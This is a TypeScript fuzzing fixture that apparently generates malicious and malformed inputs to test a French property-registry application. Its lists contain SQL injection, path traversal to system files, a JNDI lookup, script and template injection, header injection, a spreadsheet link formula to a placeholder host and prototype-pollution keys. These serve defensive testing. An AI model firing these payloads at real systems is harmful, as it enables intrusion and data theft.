import type { Random } from '@registre/demonstration/hasard'

// What a careless or a hostile program sends.

const TEXTES: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202Etxet',
  'é'.normalize('NFD').repeat(40),
  'Ȧ̴̧͓̱͚̲'.repeat(20),
  '👨‍👩‍👧‍👦🏳️‍🌈',
  'Резиденция «Липы»',
  '住宅組合 第一号',
  'إقامة الزيتون',
  'बिल्डिंग नंबर एक',
  'Κτήριο Ένα',
  '\uFEFFbom',
  '\r\nSet-Cookie: x=1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%00',
  "'; drop table copropriete; --",
  "' or '1'='1",
  '%_%',
  '\\',
  '${jndi:ldap://exemple.test/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://exemple.test")',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '9223372036854775808',
  '-1',
  '0x10',
  '٣',
  '31/02/2026',
  '00/00/0000',
  '29/02/2023',
  '01/01/0001',
  '31/12/9999',
  '01/01/99999',
  '2026-11-21T00:00:00Z',
  'AA0-000-001',
  'aa0000001',
  '[',
  '{"a":1}',
]
const AUTRES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  0.1,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 63,
  1e308,
  -1e308,
  Number.MIN_VALUE,
  [],
  [[]],
  {},
  { $ne: null },
  { length: 1e9 },
  { toString: 'x' },
  ['x', 1, null],
]

/** A text that no form would send. */
export const texteHostile = (r: Random): string =>
  r.chance(0.05)
    ? 'a'.repeat(r.pick([256, 5000, 100_000]))
    : r.chance(0.2)
      ? r.pick(TEXTES) + r.pick(TEXTES)
      : r.pick(TEXTES)

/** A value that no form would send. */
export const valeurHostile = (r: Random): unknown =>
  r.chance(0.6) ? texteHostile(r) : r.pick(AUTRES)

/** Keys that never exist in a body, and must change nothing. */
export const CLES_INTERDITES = [
  'profil',
  'authorities',
  'statut',
  'numTeledeclarant',
  'loginAs',
  'id',
  'version',
  'etat',
  'constructor',
  '__proto__',
] as const

/** JSON so deep that a careless reader falls. */
export const profond = (profondeur: number): string =>
  `${'['.repeat(profondeur)}${']'.repeat(profondeur)}`
